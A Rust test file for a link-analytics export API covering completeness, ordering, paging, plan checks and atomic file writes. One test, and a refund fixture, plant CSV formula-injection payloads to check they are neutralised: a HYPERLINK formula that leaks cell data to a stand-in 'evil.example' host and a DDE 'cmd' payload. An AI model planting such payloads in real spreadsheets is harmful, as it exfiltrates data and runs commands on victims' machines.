//! Exports: everything once and in order, the same in both formats and as the reports say, and harmless in a spreadsheet.

use std::collections::BTreeMap;
use std::io::{self, Write};

use domain::clicks::Click;
use domain::values::moment::Day;
use domain::values::name::Handle;
use local::jobs::Progress;
use local::jobs::export::{self, ExportFormat, RowType};
use serde_json::{Value, json};
use tests::fixtures::clicks::{click, random_clicks};
use tests::fixtures::exports::{csv, in_both_formats, items, pages, read_csv};
use tests::fixtures::thousandths;
use tests::{Answer, Fault, Rule, TestEnv, TestEnvOptions};

const EXPORT: &str = "/v2/handles/demo/analytics/export";
const RANGE: &str = "from=2026-03-01&to=2026-03-05";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clicks_come_out_once_each_in_order_the_same_in_both_formats_and_as_many_as_reports_count() {
    let env = TestEnv::new().await;
    env.set_time("2026-03-05T12:00:00Z");
    let crowd = random_clicks(5, 600);
    env.count_clicks(&crowd).await;
    for filters in
        ["", "&campaignId=partner-alpha", "&slug=launch", "&campaignId=partner-beta&slug=spring", "&from=2026-03-02&to=2026-03-02"]
    {
        let range = if filters.contains("from") { "" } else { RANGE };
        let items = in_both_formats(&env, &format!("{range}{filters}")).await;
        let mut expected: Vec<&Click> = crowd.iter().collect();
        expected.retain(|click| !filters.contains("alpha") || click.campaign_id.as_ref().is_some_and(|id| id.as_str() == "partner-alpha"));
        expected.retain(|click| !filters.contains("beta") || click.campaign_id.as_ref().is_some_and(|id| id.as_str() == "partner-beta"));
        expected.retain(|click| !filters.contains("launch") || click.slug.as_str() == "launch");
        expected.retain(|click| !filters.contains("spring") || click.slug.as_str() == "spring");
        expected.retain(|click| !filters.contains("from") || click.day().to_string() == "2026-03-02");
        expected.sort_by_key(|click| click.id);
        assert!(expected.len() > 20);
        let ids: Vec<&str> = items.iter().map(|item| item["clickId"].as_str().unwrap()).collect();
        assert_eq!(ids, expected.iter().map(|click| click.id.to_string()).collect::<Vec<_>>(), "{filters}");
        let report = env.creator().get(&format!("/v2/handles/demo/analytics?{range}{filters}")).await.expect(200).json();
        let bots = items.iter().filter(|item| item["verdict"] == "bot").count();
        assert_eq!((&report["totals"]["clicks"], &report["totals"]["botClicks"]), (&json!(items.len()), &json!(bots)), "{filters}");
    }
    let first = crowd.iter().min_by_key(|click| click.id).unwrap();
    let expected = json!({"clickId": first.id, "clickedAt": first.at(), "slug": first.slug, "linkVersion": first.link_version, "campaignId": first.campaign_id,
        "verdict": if first.bot { "bot" } else { "human" }, "reasons": first.reasons, "classifier": 1, "country": first.country, "device": first.device,
        "source": first.source, "referrer": first.referrer, "campaign": first.campaign, "language": "de-AT", "sessionId": first.session_id,
        "segments": first.segments, "rule": null, "consent": "full", "userAgent": first.user_agent});
    assert_eq!(items(&env, RANGE).await[0], expected);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_response_ends_at_four_megabytes_even_of_quotes_and_the_next_goes_on() {
    let env = TestEnv::new().await;
    let hostile = |number| Click { user_agent: Some("\"\\".repeat(256)), ..click("2026-03-01T12:00:00Z", number) };
    let clicks: Vec<Click> = (0..5000).map(hostile).collect();
    env.count_clicks(&clicks).await;
    for format in ["csv", "json"] {
        env.faults.take_calls();
        let pages = pages(&env, &format!("format={format}&{RANGE}")).await;
        assert!((2..=5).contains(&pages.len()), "{}", pages.len());
        // What a Lambda hands over is JSON with the body as text in it, and at most six megabytes.
        let handed_over: Vec<usize> = pages.iter().map(|page| json!(page.text()).to_string().len()).collect();
        assert!(handed_over.iter().all(|bytes| *bytes < 4_300_000), "{handed_over:?}");
        if format == "csv" {
            let types: Vec<&str> = pages.iter().map(|page| page.header("content-type")).collect();
            assert_eq!(types[..2], ["text/csv; charset=utf-8; header=present", "text/csv; charset=utf-8; header=absent"]);
        }
        let queries = env.faults.take_calls().iter().filter(|(_, operation)| operation == "Query").count();
        let shards = usize::try_from(store::table::CLICK_SHARDS).unwrap();
        assert!(queries <= 5000 / 100 + shards * pages.len(), "{queries} queries: little is read twice");
    }
    assert_eq!(in_both_formats(&env, RANGE).await.len(), 5000);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_filter_that_keeps_few_of_many_clicks_still_answers_page_by_page() {
    let env = TestEnv::new().await;
    let one = |number: u64| {
        let campaign = if number % 5000 == 4999 { "partner-alpha" } else { "partner-beta" };
        Click { campaign_id: Some(campaign.parse().unwrap()), ..click("2026-03-01T12:00:00Z", number) }
    };
    let clicks: Vec<Click> = (0..30_000).map(one).collect();
    env.count_clicks(&clicks).await;
    let pages = pages(&env, &format!("format=json&campaignId=partner-alpha&{RANGE}")).await;
    let many: Vec<usize> = pages.iter().map(|page| page.json()["items"].as_array().unwrap().len()).collect();
    assert_eq!(many, [5, 1]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_ledger_comes_out_in_order_and_adds_up_to_the_revenue_of_reports() {
    let env = TestEnv::new().await;
    env.campaign_with_link("partner-alpha", "launch", Value::Null).await;
    env.campaign_with_link("partner-beta", "spring", Value::Null).await;
    let mut last = String::new();
    for number in 0..230 {
        let (slug, currency) = [("launch", "USD"), ("spring", "JPY"), ("launch", "KWD")][number % 3];
        let receipt = env.follow_and_convert(slug, 1000, &format!("order-{number}"), json!(100 + number), currency).await;
        last = receipt["conversionId"].as_str().unwrap().to_owned();
        env.advance_ms(10 * 60_000);
    }
    env.process_events().await;
    let refund = json!({"amount": -5, "reason": "=HYPERLINK(\"https://evil.example\")", "idempotencyKey": "r1"});
    env.operator().post(&format!("/v2/handles/demo/conversions/{last}/adjustments"), refund).await.expect(201);
    env.creator()
        .post("/v2/handles/demo/campaigns/partner-alpha/test-conversion", json!({"value": 49, "currency": "USD"}))
        .await
        .expect(202);
    env.process_events().await;
    for filters in ["", "&campaignId=partner-alpha", "&slug=spring"] {
        let items = in_both_formats(&env, &format!("type=conversions&{RANGE}{filters}")).await;
        assert!(items.iter().map(|item| item["entryId"].as_str().unwrap().split_once('_').unwrap().1).is_sorted());
        let mut revenue: BTreeMap<String, i64> = BTreeMap::new();
        for item in &items {
            *revenue.entry(item["currency"].as_str().unwrap().to_owned()).or_default() += thousandths(&item["amount"]);
        }
        let report = env.creator().get(&format!("/v2/handles/demo/analytics?{RANGE}{filters}")).await.expect(200).json();
        let reported = report["totals"]["revenueByCurrency"].as_object().unwrap().iter();
        assert_eq!(revenue, reported.map(|(code, amount)| (code.clone(), thousandths(amount))).collect(), "{filters}");
        let conversions = items.iter().filter(|item| item["kind"] == "CONVERSION").count();
        assert_eq!(report["totals"]["conversions"], conversions, "{filters}");
    }
    let rows = csv(&env, &format!("type=conversions&{RANGE}")).await;
    let first = env
        .unrestricted_store()
        .ledger()
        .entries(&env.handle(), "2026-03-01".parse().unwrap(), "2026-03-05".parse().unwrap(), 100, None)
        .await
        .unwrap();
    let rest = csv(&env, &format!("type=conversions&{RANGE}&cursor={}", first.next_cursor.unwrap())).await;
    assert_eq!(rest, rows[101..]);
    let names: Vec<&str> = rows[0].iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names.join(" "), "entryId kind conversionId at slug campaignId clickId eventType amount currency reason trust bot");
    let refund = rows.iter().find(|row| row[1].0 == "ADJUSTMENT").unwrap();
    assert_eq!((&refund[8], &refund[10].0[..12]), (&("-5".to_owned(), false), "'=HYPERLINK("));
    assert_eq!(rows.len(), 1 + 231);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn days_are_exported_as_the_report_by_day_has_them() {
    let env = TestEnv::new().await;
    env.campaign_with_link("partner-alpha", "launch", Value::Null).await;
    for (key, value, currency) in [("a", json!(24.99), "USD"), ("b", json!(1000), "JPY"), ("c", json!(0.01), "USD")] {
        env.follow_and_convert("launch", 1000, key, value, currency).await;
        env.advance_days(1);
    }
    env.process_events().await;
    env.count_clicks(&random_clicks(9, 200)).await;
    for filters in ["", "&campaignId=partner-alpha", "&slug=launch&campaignId=partner-alpha"] {
        let days = in_both_formats(&env, &format!("type=daily&{RANGE}{filters}")).await;
        let report = env.creator().get(&format!("/v2/handles/demo/analytics?groupBy=day&{RANGE}{filters}")).await.expect(200).json();
        let rows = report["rows"].as_array().unwrap();
        assert_eq!(days.len(), rows.len());
        for (day, row) in days.iter().zip(rows) {
            assert_eq!(day["day"], row["key"]);
            for name in ["clicks", "botClicks", "qualifiedClicks", "conversions"] {
                assert_eq!(day[name], row[name], "{day}");
            }
            for code in ["JPY", "USD"] {
                let revenue = row["revenueByCurrency"].get(code).cloned().unwrap_or(json!(0));
                assert_eq!(day[format!("revenue_{code}")], revenue, "{day}");
            }
        }
    }
    let header = csv(&env, &format!("type=daily&{RANGE}")).await[0].iter().map(|(name, _)| name.clone()).collect::<Vec<_>>();
    assert_eq!(header, ["day", "clicks", "botClicks", "qualifiedClicks", "conversions", "revenue_JPY", "revenue_USD"]);
    assert_eq!(csv(&env, "type=daily&from=2026-01-01&to=2026-01-02").await.len(), 1, "the header alone");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_that_visitors_plant_come_out_harmless() {
    let env = TestEnv::new().await;
    env.owner().put("/v2/handles/demo/links/launch", json!({"destinationUrl": "https://example.com/"})).await.expect(201);
    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
    let visitor = env.visitor().with("user-agent", evil).with("referer", "https://-2+3.example/").with("accept-language", "-x");
    visitor.follow("launch?source=%3D1%2B1&utm_campaign=%40SUM(A1)&sid=-1").await.expect(302);
    env.visitor().with("user-agent", " \t=1").follow("launch?source=%EF%BC%9D1&campaign=%0D%0A%3D1").await.expect(302);
    env.process_events().await;
    let planted = Click {
        referrer: "+cmd|' /C calc'!A0".to_owned(),
        reasons: vec!["-x".to_owned()],
        segments: vec!["@a".to_owned(), "b".to_owned()],
        rule: Some("\" =1".to_owned()),
        country: "＠SUM".to_owned(),
        ..click("2026-03-01T12:00:01Z", 1)
    };
    env.count_clicks(&[planted]).await;
    let rows = csv(&env, RANGE).await;
    let formulas =
        |text: &str| text.trim_start_matches([' ', '"', '\'']).starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    let mut disarmed = 0;
    for (text, _) in rows.iter().flatten() {
        assert!(!formulas(text) || text.starts_with('\''), "{text:?}");
        disarmed += usize::from(formulas(text));
    }
    assert!(disarmed >= 10, "{disarmed}");
    assert!(rows.iter().any(|row| row.last().unwrap().0 == format!("'{evil}")));
    assert_eq!(in_both_formats(&env, RANGE).await.len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_names_its_type_and_a_file_name() {
    let env = TestEnv::new().await;
    env.count_clicks(&random_clicks(1, 20)).await;
    for (query, kind, name) in [
        (RANGE.to_owned(), "text/csv; charset=utf-8; header=present", "demo-clicks-2026-03-01-2026-03-05.csv"),
        (
            format!("type=daily&campaignId=partner-alpha&{RANGE}"),
            "text/csv; charset=utf-8; header=present",
            "demo-daily-partner-alpha-2026-03-01-2026-03-05.csv",
        ),
        (
            format!("type=conversions&format=json&slug=launch&{RANGE}"),
            "application/json",
            "demo-conversions-launch-2026-03-01-2026-03-05.json",
        ),
    ] {
        let answer = env.creator().get(&format!("{EXPORT}?{query}")).await.expect(200);
        assert_eq!(answer.header("content-type"), kind);
        assert_eq!(answer.header("content-disposition"), format!("attachment; filename=\"{name}\""));
    }
    let json = env.creator().get(&format!("{EXPORT}?format=json")).await.expect(200).json();
    assert_eq!(
        (&json["handle"], &json["type"], &json["from"], &json["to"], &json["nextCursor"]),
        (&json!("demo"), &json!("clicks"), &json!("2026-01-31"), &json!("2026-03-01"), &Value::Null)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_need_the_plan_pro() {
    let env = TestEnv::with(TestEnvOptions { plan: "FREE", ..TestEnvOptions::default() }).await;
    for caller in [env.creator(), env.owner()] {
        let refused = caller.get(EXPORT).await.refused(403, "feature_locked").json();
        assert_eq!((&refused["feature"], &refused["requiredPlan"]), (&json!("exports"), &json!("PRO")));
    }
    env.creator().get("/v2/handles/demo/analytics").await.expect(200);
    env.stranger().get(EXPORT).await.refused(404, "handle_not_found");
    for (plan, status) in [("PRO", 200), ("ENTERPRISE", 200), ("FREE", 403)] {
        env.admin().put("/v2/platform-admin/accounts/owner", json!({"plan": plan})).await.expect(200);
        env.creator().get(EXPORT).await.expect(status);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_bad_parameter_of_an_export_is_named() {
    let env = TestEnv::new().await;
    let query = "format=xml&type=moon&campaignId=X&slug=a&from=yesterday&to=2026-13-01&cursor=no&sort=up";
    let mut fields = env.creator().get(&format!("{EXPORT}?{query}")).await.refused(400, "invalid_payload").fields();
    fields.sort();
    assert_eq!(fields, ["campaignId", "cursor", "format", "from", "slug", "sort", "to", "type"]);
    let other_day = "clk_01JZ0000000000000000000000";
    for query in [format!("cursor={other_day}&{RANGE}"), format!("type=daily&cursor={other_day}"), "type=conversions&cursor=~".to_owned()] {
        assert_eq!(env.creator().get(&format!("{EXPORT}?{query}")).await.refused(400, "invalid_payload").fields(), ["cursor"], "{query}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_whose_table_fails_half_way_is_no_half_export() {
    let env = TestEnv::new().await;
    env.count_clicks(&random_clicks(2, 1000)).await;
    let fired = env.faults.inject(Rule::on("Query").by("analytics").after(12).always(), Fault::Throttled);
    env.creator().get(&format!("{EXPORT}?{RANGE}")).await.refused(503, "unavailable");
    fired.at_least_once();
    env.faults.clear();
    let fired = env.faults.inject(Rule::on("Query").by("analytics").after(12), Fault::AnswerLost);
    assert_eq!(csv(&env, RANGE).await.len(), 1001);
    fired.at_least_once();
}

// ---------------------------------------------------------------- into a file, from the command line

/// What an operator's export of the first days writes, and how much of it at once.
async fn job(env: &TestEnv, kind: RowType, format: ExportFormat, campaign: Option<&str>) -> (String, Written, export::ExportSummary) {
    let (from, to) = ("2026-03-01".parse().unwrap(), "2026-03-05".parse().unwrap());
    let campaign = campaign.map(|id| id.parse().unwrap());
    let wanted = export::ExportRequest { handle: env.handle(), from, to, campaign, kind, format };
    let (mut out, mut watched) = (Written::default(), Days::default());
    let done = export::run(&env.api("analytics"), env.keys(), &wanted, &mut out, &mut watched).await.unwrap();
    assert_eq!((watched.done, watched.rows), (wanted.days(), done.rows), "the bar comes to its end");
    (String::from_utf8(out.bytes.clone()).unwrap(), out, done)
}

/// What was written, and the most of it at once.
#[derive(Default)]
struct Written {
    bytes: Vec<u8>,
    most_at_once: usize,
}

impl Write for Written {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.bytes.extend_from_slice(bytes);
        self.most_at_once = self.most_at_once.max(bytes.len());
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Days that were reported as done.
#[derive(Default)]
struct Days {
    done: u64,
    rows: u64,
}

impl Progress for Days {
    fn day_started(&mut self, _: &Handle, _: Day) {}
    fn records_read(&mut self, rows: usize) {
        self.rows += rows as u64;
    }
    fn message(&mut self, _: &str) {}
    fn day_done(&mut self) {
        self.done += 1;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_into_a_file_is_every_page_of_the_api_and_never_holds_more_than_one() {
    let env = TestEnv::new().await;
    env.set_time("2026-03-03T12:00:00Z");
    env.campaign_with_link("partner-alpha", "launch", Value::Null).await;
    let order = env.follow_and_convert("launch", 1000, "order-1", json!(24.99), "USD").await;
    let order = order["conversionId"].as_str().unwrap();
    let refund = json!({"amount": -5.01, "reason": "line\r\nbreak, \"quoted\"", "idempotencyKey": "r1"});
    env.operator().post(&format!("/v2/handles/demo/conversions/{order}/adjustments"), refund).await.expect(201);
    let hostile = |number| Click {
        user_agent: Some("\"\\\r\n".repeat(128)),
        campaign_id: (number % 2 == 0).then(|| "partner-alpha".parse().unwrap()),
        ..click(["2026-03-01T12:00:00Z", "2026-03-02T12:00:00Z"][usize::from(number > 2500)], number)
    };
    env.count_clicks(&(0..5000).map(hostile).collect::<Vec<_>>()).await;
    for _ in 0..2 {
        env.process_events().await;
        env.advance_ms(3000);
    }
    for (kind, name, pages_at_least) in
        [(RowType::Clicks, "clicks", 2), (RowType::Conversions, "conversions", 1), (RowType::Daily, "daily", 1)]
    {
        for of in [None, Some("partner-alpha")] {
            let filter = of.map_or(String::new(), |id| format!("&campaignId={id}"));
            let query = format!("type={name}&{RANGE}{filter}");
            let (text, written, done) = job(&env, kind, ExportFormat::Csv, of).await;
            let of_api = pages(&env, &format!("format=csv&{query}")).await;
            assert_eq!(text, of_api.iter().map(Answer::text).collect::<String>(), "{query}");
            assert_eq!((done.rows as usize, done.pages as usize), (read_csv(&text).len() - 1, of_api.len()), "{query}");
            assert!(written.most_at_once < 4_300_000 && (of.is_some() || done.pages >= pages_at_least), "{}", done.pages);

            let (text, written, done) = job(&env, kind, ExportFormat::Json, of).await;
            let items: Vec<Value> = serde_json::from_str(&text).unwrap();
            assert_eq!((&items, items.len()), (&self::items(&env, &query).await, done.rows as usize), "{query}");
            assert!(written.most_at_once < 10_000, "item by item");
        }
    }
    let (none, _, _) = job(&env, RowType::Clicks, ExportFormat::Json, Some("partner-beta")).await;
    assert_eq!(none, "[]\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_that_is_refused_or_breaks_off_leaves_the_file_of_before() {
    let env = TestEnv::new().await;
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("clicks.csv");
    let day = "2026-03-01".parse().unwrap();
    let wanted = export::ExportRequest {
        handle: env.handle(),
        from: day,
        to: day,
        campaign: None,
        kind: RowType::Clicks,
        format: ExportFormat::Csv,
    };
    let mut first = export::PartialFile::create(&file).unwrap();
    export::run(&env.api("analytics"), env.keys(), &wanted, &mut first, &mut ()).await.unwrap();
    first.finish().unwrap();
    let before = std::fs::read_to_string(&file).unwrap();
    assert!(before.starts_with("\"clickId\","), "{before}");

    let elsewhere = export::ExportRequest { handle: "unknown".parse().unwrap(), ..wanted.clone() };
    let too_long = export::ExportRequest { from: "2024-01-01".parse().unwrap(), ..wanted.clone() };
    let backwards = export::ExportRequest { from: day.plus(1), ..wanted.clone() };
    for (wanted, said) in [(elsewhere, "there is no handle unknown"), (too_long, "400 days"), (backwards, "is after")] {
        let mut draft = export::PartialFile::create(&file).unwrap();
        let refused = export::run(&env.api("analytics"), env.keys(), &wanted, &mut draft, &mut ()).await.unwrap_err().to_string();
        assert!(refused.contains(said), "{refused}");
    }
    let fired = env.faults.inject(Rule::on("Query").by("analytics").always(), Fault::Throttled);
    let mut draft = export::PartialFile::create(&file).unwrap();
    draft.write_all(b"half").unwrap();
    export::run(&env.api("analytics"), env.keys(), &wanted, &mut draft, &mut ()).await.unwrap_err();
    drop(draft);
    fired.at_least_once();
    assert_eq!(std::fs::read_to_string(&file).unwrap(), before);
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 1, "no partial file is left");
}
